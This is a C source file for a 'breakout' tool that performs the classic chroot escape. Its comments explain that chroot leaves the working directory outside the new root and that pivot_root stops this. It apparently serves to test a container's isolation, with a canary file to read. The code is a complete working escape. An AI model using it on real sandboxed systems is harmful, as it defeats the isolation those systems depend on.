/*
 * breakout: the classic chroot escape (rubber-docker's breakout.py, in C so it runs in a bare
 * rootfs). chroot(2) changes the root but not the working directory, so a process that chroots
 * into a subdirectory is left standing *outside* its new root, where ".." is never clamped:
 * it can climb to the real / and chroot there. pivot_root plus unmounting the old root (or a
 * mount namespace where it is gone) is what stops this.
 *
 *   breakout                  escape, then say where it ended up
 *   breakout cat /tmp/canary  escape, then run the command (searched in $PATH) out there
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void fail(const char *call) {
  fprintf(stderr, "breakout: %s: %s\n", call, strerror(errno));
  exit(1);
}

int main(int argc, char **argv) {
  if (mkdir(".calf-breakout", 0700) != 0 && errno != EEXIST) fail("mkdir(\".calf-breakout\")");
  /* No chdir: the working directory stays above the new root. */
  if (chroot(".calf-breakout") != 0) fail("chroot(\".calf-breakout\")");
  /* 64 levels is deeper than any real rootfs path; ".." at the real / stays at /. */
  for (int i = 0; i < 64; i++) {
    if (chdir("..") != 0) fail("chdir(\"..\")");
  }
  if (chroot(".") != 0) fail("chroot(\".\")");

  if (argc > 1) {
    execvp(argv[1], argv + 1);
    fail("execvp");
  }

  printf("escaped: chrooted to the directory 64 levels up; its / holds:\n");
  DIR *dir = opendir("/");
  if (dir == NULL) fail("opendir(\"/\")");
  for (struct dirent *entry; (entry = readdir(dir)) != NULL;) {
    if (entry->d_name[0] != '.') printf("  /%s\n", entry->d_name);
  }
  closedir(dir);
  return 0;
}
